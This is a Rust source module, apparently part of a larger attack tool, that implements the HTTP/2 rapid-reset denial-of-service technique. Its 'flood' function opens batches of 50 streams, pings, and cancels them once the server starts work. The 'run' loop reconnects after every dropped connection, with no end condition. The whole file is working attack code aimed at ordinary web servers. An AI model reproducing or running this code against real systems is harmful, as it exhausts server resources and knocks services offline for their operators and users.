//! Requests over HTTP/2 that are cancelled as soon as the server has begun with them.
//!
//! Those that it has not begun with would only be counted, and end the connection.

use std::time::Duration;

use anyhow::ensure;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::attack::Counts;
use super::frames::Requests;
use crate::server::wire::Target;

/// Requests that are sent at a time, fewer than any server allows.
const BATCH: u32 = 50;
/// Time before a lost connection is made again.
const PAUSE: Duration = Duration::from_millis(50);

/// A connection on which requests are cancelled.
#[derive(Clone, Debug)]
pub(super) struct Reset {
    pub(super) path: String,
}

impl Reset {
    /// Sends and cancels, on a new connection when the server has had enough.
    pub(super) async fn run(self, target: Target, counts: Counts) {
        loop {
            // An error is what the server is expected to answer with.
            let _ = self.flood(&target, &counts).await;
            counts.lost();
            tokio::time::sleep(PAUSE).await;
        }
    }

    async fn flood(&self, target: &Target, counts: &Counts) -> anyhow::Result<()> {
        let socket = TcpStream::connect(target.address()).await?;
        let mut stream = target.secure(socket).await?;
        counts.opened();
        let mut requests = Requests::new(target, "GET", &self.path, None);
        let mut buffer = vec![0; 64 << 10];
        loop {
            for _ in 0..BATCH {
                requests.open();
            }
            requests.ping();
            stream.write_all(&requests.take()).await?;
            stream.flush().await?;
            counts.sent(BATCH.into());
            // The answer to the ping at the latest.
            ensure!(stream.read(&mut buffer).await? > 0, "the server closed");
            requests.reset(BATCH);
        }
    }
}
